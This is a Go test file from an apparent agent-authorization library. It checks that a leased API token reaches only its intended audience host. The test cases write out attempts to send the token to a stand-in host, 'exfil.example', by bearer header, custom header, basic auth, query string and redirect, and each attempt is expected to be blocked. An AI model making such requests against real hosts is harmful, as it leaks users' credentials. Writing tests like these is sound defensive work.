package httpguard_test

import (
	"net/http"
	"net/url"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/taskguard/taskguard/authz"
	"github.com/taskguard/taskguard/authz/httpguard"
	"github.com/taskguard/taskguard/secrets"
)

func TestLeasedTokenOnlyReachesItsAudience(t *testing.T) {
	t.Parallel()
	const token = "tok_live_4f9a8b7c6d5e4f3a2b1c"
	exfil := newServer(t, nil)
	api := newServer(t, func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/moved" {
			http.Redirect(w, r, exfil.at("exfil.example")+"collect", http.StatusFound)
			return
		}
		if r.Header.Get("Authorization") == "Bearer "+token || r.Header.Get("X-Api-Key") == token {
			_, _ = w.Write([]byte("welcome"))
			return
		}
		http.Error(w, "no token", http.StatusUnauthorized)
	})
	g := newGuard(t, namesPolicy+`
  - name: lease-api-token
    tools: [secrets.lease]
    effect: allow
    when: destination.host == "api-token"
`)
	broker, err := secrets.NewBroker(g, secrets.Static(map[string]string{"api-token": token}))
	require.NoError(t, err)
	t.Cleanup(func() { _ = broker.Close() })
	ctx, task := begin(t, g)
	lease, err := broker.Lease(ctx, "api-token", secrets.Audience("api.example.com"))
	require.NoError(t, err)
	res := resolver(map[string]string{"api.example.com": "127.0.0.1", "exfil.example": "127.0.0.1"})
	c := client(t, g, httpguard.WithResolver(res), httpguard.WithAllowPrivate("api.example.com", "exfil.example"))

	tests := []struct {
		name    string
		url     func(tok string) string
		header  func(tok string) []string
		basic   bool
		allowed bool
	}{
		{"bearer to the audience", func(string) string { return api.at("api.example.com") },
			func(tok string) []string { return []string{"Authorization", "Bearer " + tok} }, false, true},
		{"bearer elsewhere", func(string) string { return exfil.at("exfil.example") },
			func(tok string) []string { return []string{"Authorization", "Bearer " + tok} }, false, false},
		{"custom header elsewhere", func(string) string { return exfil.at("exfil.example") },
			func(tok string) []string { return []string{"X-Api-Key", tok} }, false, false},
		{"basic credentials elsewhere", func(string) string { return exfil.at("exfil.example") }, nil, true, false},
		{"query elsewhere", func(tok string) string { return exfil.at("exfil.example") + "?key=" + url.QueryEscape(tok) }, nil, false, false},
		{"redirected from the audience", func(string) string { return api.at("api.example.com") + "moved" },
			func(tok string) []string { return []string{"X-Api-Key", tok} }, false, false},
	}
	for _, tt := range tests {
		// Subtests share the lease; they run in sequence.
		t.Run(tt.name, func(t *testing.T) {
			err := lease.Use(func(value []byte) error {
				tok := string(value)
				req, err := http.NewRequestWithContext(ctx, http.MethodGet, tt.url(tok), nil)
				require.NoError(t, err)
				if tt.header != nil {
					h := tt.header(tok)
					req.Header.Set(h[0], h[1])
				}
				if tt.basic {
					req.SetBasicAuth("agent", tok)
				}
				resp, err := c.Do(req)
				if tt.allowed {
					require.NoError(t, err)
					defer resp.Body.Close()
					assert.Equal(t, http.StatusOK, resp.StatusCode)
					return nil
				}
				denied := requireDenied(t, err, authz.RuleInspect+":secrets")
				// The client's *url.Error quotes the URL (with a query
				// value); the denial itself never quotes the value.
				assert.NotContains(t, denied.Error(), tok)
				if !strings.Contains(tt.name, "query") {
					assert.NotContains(t, err.Error(), tok)
				}
				return nil
			})
			require.NoError(t, err)
		})
	}
	assert.Zero(t, exfil.hits.Load(), "the token never left for another host")
	assert.NotContains(t, task.Taint().Sources, "exfil.example")
}
